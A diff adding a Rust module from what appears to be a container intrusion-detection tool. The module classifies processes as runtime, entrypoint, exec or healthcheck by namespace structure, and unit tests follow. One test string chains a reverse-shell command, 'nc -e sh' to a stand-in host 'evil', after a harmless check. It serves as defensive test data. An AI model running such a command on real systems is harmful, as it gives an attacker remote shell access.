@@ -1,0 +1,118 @@
+//! The stage of a process: what part of a container's life it belongs to.
+//!
+//! It decides most false positives: a shell of a healthcheck is not an intruder.
+//! Nothing here looks at names. What counts is structure:
+//!
+//! ```text
+//! comes into the container's cgroup from outside            -> runtime (runc sets itself up there)
+//!   executes, still in the host's mount namespace           -> runtime (runc executes itself again)
+//!   executes inside the container, as init of its pid
+//!     namespace, or first of all where it shares the host's -> entrypoint
+//!   executes inside it later                                -> healthcheck if the arguments are the configured ones,
+//!                                                              else exec
+//! is made by a process of the container                     -> as its parent
+//! ```
+
+use dogwatch_schemas::Text;
+
+/// What part of a container's life a process belongs to.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub(crate) enum Stage {
+    /// Not in a container.
+    #[default]
+    Host,
+    /// The runtime's own set-up.
+    Runtime,
+    /// What the container was started for.
+    Entrypoint,
+    /// Brought in later: `docker exec` and the like.
+    Exec,
+    /// The configured healthcheck.
+    Healthcheck,
+}
+
+impl Stage {
+    /// The column's value.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::Host => "host",
+            Self::Runtime => "runtime",
+            Self::Entrypoint => "entrypoint",
+            Self::Exec => "exec",
+            Self::Healthcheck => "healthcheck",
+        }
+    }
+}
+
+/// What decides the stage of a process that was brought into a container and now executes a program.
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Arrival<'a> {
+    /// The process is still in the host's mount namespace.
+    pub in_host_mntns: bool,
+    /// The process is pid 1 of a pid namespace that is not the host's.
+    pub init_of_pidns: bool,
+    /// The container's runtime says that this process is its init.
+    pub init_of_container: bool,
+    /// The container's entrypoint has been seen.
+    pub entrypoint_seen: bool,
+    /// The container shares the host's pid namespace, as far as is known.
+    pub shares_host_pidns: bool,
+    /// The arguments, not redacted.
+    pub arguments: &'a [Text],
+    /// The container's configured healthcheck.
+    pub healthcheck: Option<&'a [Text]>,
+}
+
+/// The stage after the exec that ends the runtime's part.
+pub(crate) fn on_arrival(arrival: &Arrival<'_>) -> Stage {
+    if arrival.in_host_mntns {
+        return Stage::Runtime;
+    }
+    let first_without_init = arrival.shares_host_pidns && !arrival.entrypoint_seen;
+    if arrival.init_of_container || arrival.init_of_pidns || first_without_init {
+        return Stage::Entrypoint;
+    }
+    if arrival.healthcheck.is_some_and(|check| !check.is_empty() && check == arrival.arguments) {
+        return Stage::Healthcheck;
+    }
+    Stage::Exec
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(change: impl FnOnce(&mut Arrival<'_>), expected: Stage) {
+        let arguments = [Text::from("/bin/sh"), "-c".into(), "test -f /ok".into()];
+        let mut arrival = Arrival {
+            in_host_mntns: false,
+            init_of_pidns: false,
+            init_of_container: false,
+            entrypoint_seen: true,
+            shares_host_pidns: false,
+            arguments: &arguments,
+            healthcheck: None,
+        };
+        change(&mut arrival);
+        assert_eq!(on_arrival(&arrival), expected, "{arrival:?}");
+    }
+
+    #[test]
+    fn structure_decides() {
+        check(|_| {}, Stage::Exec);
+        check(|a| a.in_host_mntns = true, Stage::Runtime);
+        check(|a| a.init_of_pidns = true, Stage::Entrypoint);
+        check(|a| a.init_of_container = true, Stage::Entrypoint);
+        check(|a| (a.shares_host_pidns, a.entrypoint_seen) = (true, false), Stage::Entrypoint);
+        check(|a| a.shares_host_pidns = true, Stage::Exec);
+        check(|a| a.healthcheck = Some(a.arguments), Stage::Healthcheck);
+        check(|a| a.healthcheck = Some(&[]), Stage::Exec);
+        check(|a| (a.healthcheck, a.init_of_pidns) = (Some(a.arguments), true), Stage::Entrypoint);
+    }
+
+    #[test]
+    fn a_longer_command_is_not_the_healthcheck() {
+        let configured = [Text::from("/bin/sh"), "-c".into(), "test -f /ok; nc -e sh evil 1".into()];
+        check(|a| a.healthcheck = Some(&configured[..2]), Stage::Exec);
+    }
+}
